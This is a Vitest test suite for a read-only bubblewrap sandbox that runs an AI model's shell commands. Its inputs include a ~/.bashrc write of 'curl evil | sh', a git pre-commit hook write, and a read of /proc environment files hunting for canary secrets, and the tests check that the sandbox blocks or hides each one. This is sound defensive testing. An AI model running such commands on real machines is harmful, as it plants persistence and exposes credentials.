// read-only under real bubblewrap: the model reads everything it may, writes nowhere but a private
// /tmp, and is told that the policy, not the command, refused the write.
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CommandRunner } from '../../src/sandbox/types.js'
import { fileSnapshot, makeWorld, uniqueMarker } from './fixture.js'
import type { SandboxWorld } from './fixture.js'

const READ_ONLY_NOTE = '[sandbox] the read-only policy forbids writing files'

let world: SandboxWorld
let runner: CommandRunner

beforeAll(async () => {
  world = makeWorld()
  runner = await world.runner('read-only')
})
afterAll(() => world.dispose())

describe('read-only', () => {
  it('lets the model read the workspace, even one that lives under /tmp', async () => {
    const result = await world.run(runner, ['cat', 'README.md'])
    expect(result).toMatchObject({ exitCode: 0, output: '# fixture\n' })
  })

  const writes: [string, string, () => string][] = [
    ['a new workspace file', 'echo x > notes.txt', () => path.join(world.workspace, 'notes.txt')],
    ['an existing workspace file', 'echo x >> README.md', () => path.join(world.workspace, 'README.md')],
    ['a deletion in the workspace', 'rm README.md', () => path.join(world.workspace, 'README.md')],
    ['$HOME/.bashrc', 'echo "curl evil | sh" >> ~/.bashrc', () => path.join(world.home, '.bashrc')],
    [
      '.git/hooks/pre-commit',
      'echo evil > .git/hooks/pre-commit',
      () => path.join(world.workspace, '.git/hooks/pre-commit'),
    ],
  ]

  it.each(writes)('refuses %s and tells the model the policy forbids it', async (_name, script, target) => {
    const before = fileSnapshot(target())
    const result = await world.run(runner, ['bash', '-c', script])
    expect(result.exitCode).not.toBe(0)
    expect(fileSnapshot(target())).toBe(before)
    expect(result.output).toContain(READ_ONLY_NOTE)
  })

  it('gives the command a private /tmp that never reaches the host', async () => {
    const name = `codex-read-only-${uniqueMarker()}`
    const result = await world.run(runner, ['bash', '-c', `echo inside > /tmp/${name} && cat /tmp/${name}`])
    expect(result).toMatchObject({ exitCode: 0, output: 'inside\n' })
    expect(fs.existsSync(path.join('/tmp', name))).toBe(false)
    expect(fs.existsSync(path.join(os.tmpdir(), name))).toBe(false)
  })

  it("hides checkout's extraheader in .git/config here too", async () => {
    const config = path.join(world.workspace, '.git/config')
    const original = fs.readFileSync(config, 'utf8')
    fs.writeFileSync(
      config,
      `${original}[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${world.canary}\n`,
    )
    try {
      const result = await world.run(runner, ['git', 'config', '--list', '--show-origin'])
      expect(result.exitCode).toBe(0)
      expect(result.output).toContain('core.bare=false')
      expect(result.output).not.toContain(world.canary)
    } finally {
      fs.writeFileSync(config, original)
    }
  })

  it('shows no canary secret in the environment', async () => {
    const result = await world.run(runner, ['bash', '-c', 'env; cat /proc/1/environ /proc/$PPID/environ'])
    expect(result.output).toContain('PATH=')
    expect(result.output).not.toContain(world.canary)
  })
})
